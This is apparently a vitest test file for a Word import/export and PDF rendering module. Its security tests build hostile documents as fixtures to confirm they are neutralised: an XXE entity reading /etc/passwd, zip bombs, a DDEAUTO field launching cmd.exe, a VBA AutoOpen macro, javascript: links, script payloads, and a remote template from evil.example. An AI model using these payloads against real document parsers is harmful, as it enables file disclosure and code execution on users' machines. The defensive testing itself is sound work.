import { strToU8, unzipSync, zipSync } from 'fflate';
import { expect, test } from 'vitest';
import { textSheetOf } from './text-sheet.ts';
import { readWordDocument } from './word-reader.ts';
import { wordDocument } from './word-writer.ts';

const html =
  '<h2>ခေါင်းစဉ်</h2><p>နှစ် <strong>bold</strong> 中文 <a href="https://example.com/?a=1&amp;b=2">link</a></p>' +
  '<ul><li><p>one</p><ol><li><p>inner</p></li></ol></li><li><p>two</p></li></ul>' +
  '<table><tbody><tr><td><p>A</p></td><td>B</td></tr></tbody></table>';

test('a text becomes a Word document and comes back with its headings, lists, tables and links', async () => {
  const back = await readWordDocument({ bytes: wordDocument('Title & more', html) });
  expect(back.html).toBe(
    '<h1>Title &amp; more</h1><h2>ခေါင်းစဉ်</h2><p>နှစ် <strong>bold</strong> 中文 <a href="https://example.com/?a=1&amp;b=2">link</a></p>' +
      '<ul><li>one<ol><li>inner</li></ol></li><li>two</li></ul>' +
      '<table><tr><td><p>A</p></td><td><p>B</p></td></tr></table>',
  );
});

const changed = (change: (files: Record<string, Uint8Array>) => void): Uint8Array => {
  const files = unzipSync(wordDocument('Title', '<p>Text</p>'));
  change(files);
  return zipSync(files, { level: 1 });
};

test('import of Word refuses a file that is no document', async () => {
  for (const bytes of [strToU8('no zip'), zipSync({ 'other.xml': strToU8('<x/>') })])
    await expect(readWordDocument({ bytes })).rejects.toMatchObject({ key: 'content.notWord' });
  const bomb = changed((files) => {
    files['word/media/bomb.bin'] = new Uint8Array(110_000_000);
  });
  await expect(readWordDocument({ bytes: bomb })).rejects.toMatchObject({ key: 'system.tooExpensive' });
});

test('import of Word resolves no entities and no external pictures', async () => {
  const entity = changed((files) => {
    const text = new TextDecoder().decode(files['word/document.xml']);
    files['word/document.xml'] = strToU8(
      text
        .replace('<w:document', '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document')
        .replace('Text', '&x;'),
    );
  });
  const read = await readWordDocument({ bytes: entity }).catch(() => undefined);
  expect(read?.html ?? '').not.toContain('root:');
});

const document = (files: Record<string, Uint8Array>): string =>
  new TextDecoder().decode(files['word/document.xml']);
const relations = 'word/_rels/document.xml.rels';

test('import of Word detects a false uncompressed size', async () => {
  const bytes = changed((files) => {
    files['word/document.xml'] = new Uint8Array(120_000_000).fill(32);
  });
  // The directory at the end of the file says what each entry unpacks to.
  const end = Buffer.from(bytes);
  for (let at = 0; at + 46 < end.length; at++)
    if (end.readUInt32LE(at) === 0x02014b50) end.writeUInt32LE(1000, at + 24);
  await expect(readWordDocument({ bytes: end })).rejects.toMatchObject({ key: 'content.notWord' });
});

test('import of Word ignores macros, scripts, fields, chunks, templates and rules', async () => {
  const bytes = changed((files) => {
    const hostile =
      '<w:p><w:hyperlink r:id="script"><w:r><w:t>press</w:t></w:r></w:hyperlink></w:p>' +
      '<w:p><w:r><w:t>&lt;script&gt;alert(1)&lt;/script&gt;</w:t></w:r></w:p>' +
      '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>' +
      '<w:altChunk r:id="chunk"/>';
    files['word/document.xml'] = strToU8(document(files).replace('<w:sectPr/>', `${hostile}<w:sectPr/>`));
    const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
    const more =
      `<Relationship Id="script" Type="${office}/hyperlink" Target="javascript:alert(1)" TargetMode="External"/>` +
      `<Relationship Id="chunk" Type="${office}/aFChunk" Target="chunk.html"/>` +
      `<Relationship Id="template" Type="${office}/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/>`;
    const given = new TextDecoder().decode(files[relations]);
    files[relations] = strToU8(given.replace('</Relationships>', `${more}</Relationships>`));
    files['word/chunk.html'] = strToU8('<script>alert(1)</script><img src=x onerror=alert(1)>');
    files['word/vbaProject.bin'] = strToU8('Sub AutoOpen() Shell "calc" End Sub');
    files['mammoth/style-map'] = strToU8("p => script:fresh\np[style-name='heading 1'] => iframe:fresh");
  });
  const { html: read } = await readWordDocument({ bytes });
  expect(read).toBe(
    '<h1>Title</h1><p>Text</p><p><a>press</a></p><p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  );
});

test('export to Word omits external pictures and does not fetch them', async () => {
  const bytes = changed((files) => {
    const drawing =
      '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:link="far"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>';
    files['word/document.xml'] = strToU8(document(files).replace('<w:sectPr/>', `${drawing}<w:sectPr/>`));
    const given = new TextDecoder().decode(files[relations]);
    files[relations] = strToU8(
      given.replace(
        '</Relationships>',
        '<Relationship Id="far" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file:///etc/hostname" TargetMode="External"/></Relationships>',
      ),
    );
  });
  const read = await readWordDocument({ bytes });
  expect(read).toMatchObject({ html: '<h1>Title</h1><p>Text</p><p></p>', pictures: [], leftOut: 1 });
});

/** A white point. */
const point = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
  'base64',
);
const shown =
  '<p>Before <img src="/lcplatform/file/7/a.png" alt="A point" width="20"> after</p><p><img src="/lcplatform/file/8/b.png"></p>';
const pictures = new Map([['7', { type: 'png' as const, width: 40, height: 20, bytes: point }]]);

test('export to Word has the pictures of the text, and the chosen letterhead', async () => {
  const letterhead = { name: 'LC & Co', footer: '2026' };
  const bytes = wordDocument('Title', shown, { pictures, letterhead });
  const files = unzipSync(bytes);
  const text = (name: string) => new TextDecoder().decode(files[name]);
  expect(Buffer.from(files['word/media/picture7.png'] ?? [])).toEqual(point);
  expect(text('word/document.xml')).toContain('<wp:extent cx="190500" cy="95250"/>');
  expect(text('word/header1.xml')).toContain('LC &amp; Co');
  expect(text('word/footer1.xml')).toContain(' PAGE ');
  const back = await readWordDocument({ bytes });
  expect(back.pictures).toEqual([{ type: 'image/png', content: point.toString('base64') }]);
  expect(back.html).toBe(
    '<h1>Title</h1><p>Before <img alt="A point" src="word-picture:0" /> after</p><p>[/lcplatform/file/8/b.png]</p>',
  );
  expect(Object.keys(unzipSync(wordDocument('Title', shown)))).not.toContain('word/header1.xml');
});

test('the PDF of a text keeps headings, lists, rows and pictures in their order', () => {
  const sheet = textSheetOf({
    title: 'Title',
    subtitle: '',
    issuer: 'LC',
    facts: [],
    pictures,
    html: `<h2>First</h2><ol><li><p>one</p><ul><li>inner</li></ul></li><li>two</li></ol><table><tr><td>A</td><td>B</td></tr></table>${shown}`,
  });
  expect(sheet.sections).toEqual([
    {
      heading: 'First',
      entries: [
        { title: '', text: '1. one' },
        { title: '', text: '   • inner' },
        { title: '', text: '2. two' },
        { title: '', text: 'A  |  B' },
        { title: '', text: 'Before  after' },
        { title: '', picture: { content: point.toString('base64'), width: 40, height: 20 } },
      ],
    },
  ]);
});
